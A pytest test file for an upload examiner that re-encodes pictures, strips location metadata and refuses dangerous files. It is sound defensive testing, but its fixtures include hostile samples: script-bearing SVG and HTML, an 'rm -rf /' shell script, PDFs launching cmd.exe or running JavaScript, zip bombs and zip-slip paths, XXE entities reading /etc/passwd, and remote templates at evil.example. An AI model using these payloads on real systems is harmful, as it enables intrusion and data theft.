"""What is taken, what is not, and what is left of it. The ids are of the catalogue of bad input."""

from __future__ import annotations

import io
import subprocess
import sys
import zipfile
from pathlib import Path
from typing import Any

import pytest
from PIL import Image

from core.exceptions import Invalid
from participation.attachments import caps, examining
from participation.attachments.examining import Examined, examined
from tests.factories.files import DOCX, archive, docx, odt, pdf, picture, png_claiming, upload


def look(content: bytes, name: str = "photo.jpg") -> tuple[Examined, bytes, bytes]:
    """What is found of a file, what is kept of it, and the small picture."""
    with examined(upload(content, name)) as found:
        small = found.small.read_bytes() if found.small else b""
        return found, found.path.read_bytes(), small


def refusal(content: bytes, name: str = "photo.jpg") -> str:
    """The code by which a file is refused."""
    with pytest.raises(Invalid) as caught, examined(upload(content, name)):
        pass
    assert caught.value.status == 422
    assert str(caught.value)
    return caught.value.code.removeprefix("file_")


@pytest.mark.parametrize(
    ("name", "mode", "extension"),
    [
        ("JPEG", "RGB", "jpg"),
        ("JPEG", "CMYK", "jpg"),
        ("JPEG", "L", "jpg"),
        ("PNG", "RGB", "png"),
        ("PNG", "RGBA", "png"),
        ("WEBP", "RGB", "jpg"),
        ("WEBP", "RGBA", "png"),
        ("HEIF", "RGB", "jpg"),
    ],
)
def test_pictures_are_made_anew_with_a_small_one(name, mode, extension):
    found, kept, small = look(picture(name, (1200, 800), mode=mode), "x.bin")
    assert (found.extension, found.width, found.height) == (extension, 1200, 800)
    assert found.media_type == examining.MEDIA_TYPES[extension]
    assert found.size == len(kept)
    with Image.open(io.BytesIO(kept)) as image:
        assert image.format == {"jpg": "JPEG", "png": "PNG"}[extension]
        image.load()
    with Image.open(io.BytesIO(small)) as image:
        assert (image.format, image.size) == ("WEBP", (640, 427))
        assert image.size == (found.small_width, found.small_height)


def test_a_large_picture_is_made_smaller_and_stands_upright():
    # The camera was held upright: the picture is turned by what it says of itself.
    for name in ("JPEG", "PNG"):
        found, _kept, _small = look(picture(name, (6000, 4500), place=True))
        assert (found.width, found.height) == (1920, 2560)
    found, kept, _small = look(picture("JPEG", (4000, 3000), place=True))
    assert (found.width, found.height) == (1920, 2560)
    with Image.open(io.BytesIO(kept)) as image:
        assert image.size == (1920, 2560)


@pytest.mark.parametrize("name", ["JPEG", "PNG", "WEBP", "HEIF"])
def test_u6_where_a_picture_was_taken_is_not_kept(name):
    sent = picture(name, (400, 300), place=True)
    assert b"Kaifong Camera" in sent
    _found, kept, small = look(sent)
    for made in (kept, small):
        for trace in (b"Kaifong", b"Kwok", b"Exif", b"GPS", b"eXIf", b"xmp", b"ICC"):
            assert trace not in made
        with Image.open(io.BytesIO(made)) as image:
            assert not image.getexif()


@pytest.mark.parametrize(
    "content",
    [
        b"<svg xmlns='http://www.w3.org/2000/svg' onload='alert(1)'/>",
        b"<?xml version='1.0'?><svg xmlns='http://www.w3.org/2000/svg'/>",
        b"<!DOCTYPE html><script>alert(1)</script>",
        b"GIF89a/*" + b" " * 40 + b"*/=1;alert(1)",
        b"MZ" + b"\0" * 200,
        b"#!/bin/sh\nrm -rf /\n",
        b"just words",
        b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1" + b"\0" * 600,
        b"{\\rtf1 x}",
        b" %PDF-1.4 not at the beginning",
    ],
)
def test_u1_what_is_not_on_the_list_is_not_taken_whatever_it_is_called(content):
    assert refusal(content, "photo.jpg") == "type"


def test_u1_a_picture_that_is_an_archive_too_is_only_a_picture_afterwards():
    hidden = archive({"evil.class": b"\xca\xfe\xba\xbe"})
    _found, kept, small = look(picture("JPEG") + hidden)
    assert zipfile.is_zipfile(io.BytesIO(picture("JPEG") + hidden))
    for made in (kept, small):
        assert b"PK\x03\x04" not in made
        assert not zipfile.is_zipfile(io.BytesIO(made))
    _found, kept, _small = look(picture("PNG") + b"<script>alert(1)</script>")
    assert b"script" not in kept


@pytest.mark.parametrize(
    ("content", "code"),
    [
        (pdf(root="/OpenAction << /S /JavaScript /JS (app.alert(1)) >>"), "active"),
        (pdf("<< /S /Launch /F (cmd.exe) >>", root="/OpenAction 4 0 R"), "active"),
        (pdf("<< /S /JavaScript /JS (x) >>"), "active"),
        (pdf(root="/Names << /EmbeddedFiles << /Names [] >> >>"), "active"),
        (pdf(root="/AcroForm << /XFA (x) >>"), "active"),
        (pdf() + archive(DOCX), "mixed"),
        (pdf(end=""), "broken"),
        (pdf()[:90], "broken"),
        (b"%PDF-1.4\n" + b"\xff" * 3000 + b"%%EOF", "broken"),
    ],
)
def test_u1_a_pdf_that_does_something_or_is_two_things_is_refused(content, code):
    assert refusal(content, "plan.pdf") == code


def test_u1_a_plain_pdf_is_kept_as_it_is():
    found, kept, small = look(pdf(), "plan.jpg")
    assert (found.extension, found.media_type, small) == ("pdf", "application/pdf", b"")
    assert kept == pdf()


def test_u2_pixels_are_counted_before_anything_is_decoded():
    assert refusal(png_claiming(50_000, 50_000)) == "pixels"
    assert refusal(png_claiming(20_001, 1)) == "pixels"
    assert refusal(png_claiming(6400, 6400)) == "pixels"
    # 50,000 pixels a side in WebP's own words, before its decoder sets a canvas aside.
    side = (16383 - 1).to_bytes(3, "little")
    webp = b"RIFF" + b"\x50\0\0\0" + b"WEBPVP8X" + b"\x0a\0\0\0" + b"\x02\0\0\0" + side + side
    assert refusal(webp + b"\0" * 60) == "pixels"


def test_u2_frames_are_counted_and_one_is_kept():
    frames = [Image.new("RGB", (8, 8), (number, 0, 0)) for number in range(101)]
    for name in ("WEBP", "PNG"):
        made = io.BytesIO()
        frames[0].save(made, name, save_all=True, append_images=frames[1:], lossless=True)
        assert refusal(made.getvalue()) == "frames", name
        made = io.BytesIO()
        frames[0].save(made, name, save_all=True, append_images=frames[1:9], lossless=True)
        _found, kept, _small = look(made.getvalue())
        with Image.open(io.BytesIO(kept)) as image:
            assert getattr(image, "n_frames", 1) == 1


@pytest.mark.parametrize("name", ["GIF", "TIFF", "BMP", "JPEG2000", "ICO", "PPM", "AVIF"])
def test_u2_other_pictures_are_not_taken(name):
    assert refusal(picture(name, (64, 64))) == "type"


@pytest.mark.parametrize("name", ["JPEG", "PNG", "WEBP", "HEIF"])
def test_u3_what_did_not_arrive_whole_is_said_to_be_broken(name):
    sent = picture(name, (500, 400))
    for part in (len(sent) // 2, 30):
        assert refusal(sent[:part]) in {"broken", "type"}


def test_u3_an_announced_size_is_not_believed():
    liar = upload(b"x" * (caps.FILE_BYTES + 1))
    liar.size = 10
    with pytest.raises(Invalid) as caught, examined(liar):
        pass
    assert caught.value.code == "file_size"
    assert refusal(b"") == "empty"


def _zeros(number: int) -> bytes:
    return archive({**DOCX, "word/media/a.bin": b"\0" * number})


def _slip(name: str) -> bytes:
    return archive({**DOCX, name: "x"})


def _link() -> bytes:
    info = zipfile.ZipInfo("word/link")
    info.external_attr = 0o120777 << 16
    return archive([*DOCX.items(), (info, "/etc/passwd")])


def _lies() -> bytes:
    """Declares a part as small as nothing."""
    made = bytearray(_zeros(30_000_000))
    true, false = (30_000_000).to_bytes(4, "little"), (20).to_bytes(4, "little")
    return bytes(made.replace(true, false))


def _overlapping() -> bytes:
    """Two entries of the list that are the same bytes."""
    made = archive({**DOCX, "word/a.bin": b"a" * 50, "word/b.bin": b"a" * 50}, packed=False)
    with zipfile.ZipFile(io.BytesIO(made)) as file:
        first, second = (file.getinfo(f"word/{name}.bin").header_offset for name in "ab")
    end = made.rindex(second.to_bytes(4, "little"))
    return made[:end] + first.to_bytes(4, "little") + made[end + 4 :]


@pytest.mark.parametrize(
    ("content", "codes"),
    [
        (_zeros(60_000_000), {"bomb"}),
        (_zeros(101 * 1024 * 1024), {"bomb"}),
        (archive({**DOCX, **{f"word/{n}.xml": "<a/>" for n in range(2000)}}), {"bomb"}),
        (_lies(), {"broken", "bomb"}),
        (_overlapping(), {"bomb", "broken"}),
        (archive({**DOCX, "word/x.bin": archive({"a": "b"})}), {"nested"}),
        (archive({**DOCX, "word/embeddings/o.bin": b"\xd0\xcf\x11\xe0" + b"0" * 99}), {"nested"}),
        (_slip("../../etc/passwd"), {"broken"}),
        (_slip("/etc/passwd"), {"broken"}),
        (_slip("word\\..\\x"), {"broken"}),
        (_slip("C:/x"), {"broken"}),
        (_link(), {"broken"}),
        (docx() + b"\0" * 100, {"broken"}),
        (docx()[:-30], {"broken"}),
        (archive({"a.txt": "x"}), {"type"}),
        (archive({**DOCX, "word/vbaProject.bin": b"x"}), {"active"}),
        (
            docx(
                parts={
                    "[Content_Types].xml": str(DOCX["[Content_Types].xml"]).replace(
                        "document.main", "document.macroEnabled.main"
                    )
                }
            ),
            {"active", "type"},
        ),
        (odt(parts={"Basic/Standard/Module1.xml": "<a/>"}), {"active"}),
    ],
)
def test_u4_archives_that_are_more_than_they_seem(content, codes):
    assert refusal(content, "letter.docx") in codes


@pytest.mark.parametrize(("content", "extension"), [(docx(), "docx"), (odt(), "odt")])
def test_u4_plain_documents_are_kept_as_they_are(content, extension):
    found, kept, _small = look(content, "a.exe")
    assert (found.extension, found.width) == (extension, 0)
    assert kept == content


_ENTITY = '<?xml version="1.0"?><!DOCTYPE a [<!ENTITY x SYSTEM "file:///etc/passwd">]><a>&x;</a>'
_LAUGHS = '<?xml version="1.0"?><!DOCTYPE a [<!ENTITY b "bb"><!ENTITY c "&b;&b;">]><a>&c;</a>'
_DTD = '<?xml version="1.0"?><!DOCTYPE a SYSTEM "http://evil.example/x.dtd"><a/>'
_REMOTE = str(DOCX["_rels/.rels"]).replace(
    'Target="word/document.xml"', 'TargetMode="External" Target="http://evil.example/t.dotm"'
)


@pytest.mark.parametrize(
    ("part", "words", "code"),
    [
        ("word/document.xml", _ENTITY, "active"),
        ("word/document.xml", _LAUGHS, "active"),
        ("word/document.xml", _DTD, "active"),
        ("word/document.xml", _DTD.encode("utf-16"), "active"),
        ("[Content_Types].xml", _ENTITY, "active"),
        ("word/document.xml", "<a><b></a>", "broken"),
        ("word/_rels/settings.xml.rels", _REMOTE, "outside"),
    ],
)
def test_u11_no_entity_no_dtd_nothing_from_elsewhere(part, words, code):
    assert refusal(docx(parts={part: words}), "letter.docx") == code
    if part == "word/document.xml" and code == "active":
        assert refusal(odt(parts={"content.xml": words}), "letter.odt") == code


def test_a_link_in_a_document_is_only_a_link():
    rels = _REMOTE.replace("relationships/officeDocument", "relationships/hyperlink")
    assert look(docx(parts={"word/_rels/document.xml.rels": rels}))[0].extension == "docx"


def test_the_examiner_has_nothing_of_ours(tmp_path: Path, monkeypatch: Any):
    monkeypatch.setenv("SECRET_KEY", "not for strangers")
    seen: dict[str, Any] = {}
    run = subprocess.run

    def watched(command: list[str], **how: Any) -> Any:
        seen.update(how, command=command)
        return run(command, **how)

    monkeypatch.setattr(examining.subprocess, "run", watched)
    look(picture())
    assert set(seen["env"]) == {"PATH", "TMPDIR"}
    assert seen["command"][:2] == [sys.executable, "-I"]
    assert seen["timeout"] == caps.WAIT_SECONDS


def test_an_examiner_that_dies_refuses_the_file(monkeypatch: Any):
    monkeypatch.setattr(caps, "MEMORY_BYTES", 120 * 1024 * 1024)
    assert refusal(picture("PNG", (6000, 6000))) in {"large", "broken"}
